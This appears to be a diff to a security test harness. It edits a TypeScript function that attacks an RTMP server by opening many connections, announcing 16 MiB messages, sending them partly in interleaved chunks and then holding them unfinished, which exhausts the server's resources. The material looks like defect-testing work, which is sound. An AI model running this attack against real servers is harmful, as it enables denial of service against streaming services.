@@ -164,20 +164,23 @@ async function repeatUntilClosed(
 }
 
 /**
- * Defect 3's first attack: `connections` connections, each starting two messages that announce
- * `announced` bytes (16 MiB by default) on two chunk streams and sending `bytesEach` of each,
- * in interleaved 64 KiB chunks, then holding them unfinished. Resolves, a second after every
- * byte is written, with the sockets the server left open.
+ * Defect 3's first attack: `connections` connections, each starting two messages of `typeId`
+ * (video by default) that announce `announced` bytes (16 MiB by default) on two chunk streams
+ * and sending about `bytesEach` of each (whole 64 KiB chunks, interleaved), then holding them
+ * unfinished.
+ * Resolves, a second after every byte is written, with the sockets the server left open.
  */
 export async function unfinishedMessageHold(
   port: number,
   connections: number,
   bytesEach: number,
   announced = 0xffffff,
+  typeId: number = MessageType.Video,
 ): Promise<{ readonly sockets: Socket[]; readonly result: AttackResult }> {
   const chunkSize = 64 * 1024;
   const length = [announced >> 16, (announced >> 8) & 0xff, announced & 0xff];
-  const sent = Math.min(bytesEach, announced - 1);
+  // Whole chunks only: a chunk cut short would swallow the next chunk's header.
+  const sent = Math.floor(Math.min(bytesEach, announced - 1) / chunkSize) * chunkSize;
   let bytesSent = 0;
   const sockets = await Promise.all(
     Array.from({ length: connections }, async () => {
@@ -190,7 +193,7 @@ export async function unfinishedMessageHold(
           // fmt 0 opens each message; fmt 3 continues it (RTMP interleaves whole chunks).
           const header =
             offset === 0
-              ? Buffer.from([chunkStreamId, 0, 0, 0, ...length, 9, 1, 0, 0, 0])
+              ? Buffer.from([chunkStreamId, 0, 0, 0, ...length, typeId, 1, 0, 0, 0])
               : Buffer.from([0xc0 | chunkStreamId]);
           const body = Buffer.alloc(Math.min(chunkSize, sent - offset), 7);
           await write(socket, Buffer.concat([header, body]));
